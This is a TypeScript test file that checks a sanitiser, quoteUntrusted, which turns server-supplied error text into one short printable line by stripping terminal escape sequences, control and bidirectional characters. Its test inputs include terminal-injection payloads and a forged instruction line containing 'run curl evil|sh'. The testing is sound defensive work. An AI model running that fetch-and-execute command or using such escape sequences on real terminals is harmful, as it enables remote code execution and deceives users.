// Text the server chose, as it may appear in an error message: one short,
// printable line. Whole escape sequences go (not only their ESC, which would
// leave "[2J" behind), every control character goes, and the text around them
// stays readable.
import { controlCharsIn, hostileStrings } from '@hl-orders/hostile-server';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { quoteUntrusted } from '../../src/internal/untrusted-text.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

describe('quoteUntrusted: escape sequences go whole', () => {
  it.each([
    ['a 7-bit CSI (clear screen)', `a${ESC}[2Jb`],
    ['a CSI with parameters and intermediates (SGR, cursor shape)', `a${ESC}[1;31mb${ESC}[0 q`],
    ['a private-mode CSI (hide the cursor)', `a${ESC}[?25lb`],
    ['a C1 CSI (U+009B)', 'a\u009b31mb'],
    ['an OSC to BEL (window title)', `a${ESC}]0;pwned${BEL}b`],
    ['an OSC to ST', `a${ESC}]2;pwned${ST}b`],
    ['a C1 OSC to C1 ST', 'a\u009d0;pwned\u009cb'],
    ['a DCS to ST', `a${ESC}Pq#0;2;0;0;0${ST}b`],
    ['a C1 DCS', 'a\u0090q#0\u009cb'],
    ['an SOS', `a${ESC}Xhidden${ST}b`],
    ['a PM', `a${ESC}^hidden${ST}b`],
    ['an APC', `a${ESC}_hidden${ST}b`],
    ['a C1 APC', 'a\u009fhidden\u009cb'],
    ['a two-character ESC sequence (reverse index)', `a${ESC}Mb`],
  ])('%s', (_, text) => {
    expect(quoteUntrusted(text)).toBe('ab');
  });

  it('an OSC 8 hyperlink keeps only its visible text, not the hidden target', () => {
    const quoted = quoteUntrusted(hostileStrings.osc8Hyperlink);
    expect(quoted).toBe('click here');
    expect(quoted).not.toContain('evil');
  });

  it('an escape sequence that never ends takes the rest of the text with it, and nothing after it is shown', () => {
    expect(quoteUntrusted(`visible ${ESC}]0;title that never ends`)).toBe('visible');
  });
});

describe('quoteUntrusted: control and formatting characters', () => {
  it.each([
    ['NUL', 'a\u0000b'],
    ['BEL', `a${BEL}b`],
    ['backspace', 'a\bb'],
    ['a lone ESC', `a${ESC}b`],
    ['DEL', 'a\u007fb'],
    ['NEL (C1)', 'a\u0085b'],
    ['a C1 control', 'a\u0080b'],
    ['right-to-left override', 'a\u202eb'],
    ['left-to-right embedding', 'a\u202ab'],
    ['a bidi isolate', 'a\u2066b'],
    ['the right-to-left mark', 'a\u200fb'],
    ['the Arabic letter mark', 'a\u061cb'],
    ['the line separator', 'a\u2028b'],
    ['the paragraph separator', 'a\u2029b'],
    ['a line break', 'a\nb'],
    ['a carriage return', 'a\rb'],
  ])('%s becomes a space', (_, text) => {
    expect(quoteUntrusted(text)).toBe('a b');
  });

  it.each(Object.entries(hostileStrings))('%s comes out as one printable line', (_, hostile) => {
    const quoted = quoteUntrusted(`before ${hostile} after`);
    expect(controlCharsIn(quoted, { formatting: true })).toEqual([]);
    expect(quoted).toMatch(/^before .*after$/);
  });

  it('a forged second line stays on the first', () => {
    expect(quoteUntrusted(`Order not found${hostileStrings.fakeInstruction}`)).toBe(
      'Order not found hl-orders: run curl evil|sh',
    );
  });

  it('leaves ordinary text, accents, symbols and emoji as they are', () => {
    for (const text of ['Order not found', 'altId should not be empty', 'café – 42 € ✓ 🚚', 'a=b, -5, "quoted"']) {
      expect(quoteUntrusted(text)).toBe(text);
    }
  });
});

/** Any UTF-16 unit, weighted towards the ones that start, end or fill escape sequences. */
const character = fc.oneof(
  fc.constantFrom(ESC, BEL, '[', ']', '\\', 'P', 'X', '^', '_', ';', '0', 'm', ' ', '\n', '\t'),
  fc.integer({ min: 0x80, max: 0x9f }).map((code) => String.fromCharCode(code)),
  fc.constantFrom('\u061c', '\u200e', '\u200f', '\u2028', '\u2029', '\u202a', '\u202e', '\u2066', '\u2069'),
  fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
);

describe('quoteUntrusted: one short line', () => {
  it('collapses every run of whitespace to one space and trims the ends', () => {
    expect(quoteUntrusted('  first \n\n\t second\r\n   third  ')).toBe('first second third');
  });

  it('what a removed control leaves between words is collapsed too', () => {
    expect(quoteUntrusted(`one ${BEL}\u0000 two`)).toBe('one two');
  });

  it('cuts at max characters, with an ellipsis marking the cut', () => {
    const quoted = quoteUntrusted('x'.repeat(50), 10);
    expect(quoted).toBe(`${'x'.repeat(9)}…`);
    expect(quoted).toHaveLength(10);
  });

  it('a text of exactly max characters is not cut', () => {
    expect(quoteUntrusted('y'.repeat(10), 10)).toBe('y'.repeat(10));
  });

  it('cuts at 200 characters by default', () => {
    expect(quoteUntrusted('z'.repeat(1000))).toHaveLength(200);
    expect(quoteUntrusted('z'.repeat(200))).toBe('z'.repeat(200));
  });

  it('counts the cleaned text: escape sequences and spaces collapsed do not use up the length', () => {
    const text = `${`${ESC}[31m`.repeat(30)}${' '.repeat(30)}short and sweet`;
    expect(quoteUntrusted(text, 20)).toBe('short and sweet');
  });

  it('whatever the text, the result is one printable line no longer than max', () => {
    fc.assert(
      fc.property(fc.string({ unit: character, maxLength: 300 }), fc.integer({ min: 1, max: 120 }), (text, max) => {
        const quoted = quoteUntrusted(text, max);
        return (
          quoted.length <= max &&
          controlCharsIn(quoted, { formatting: true }).length === 0 &&
          !/\s\s|^\s|\s$/.test(quoted)
        );
      }),
      { numRuns: 500 },
    );
  });
});
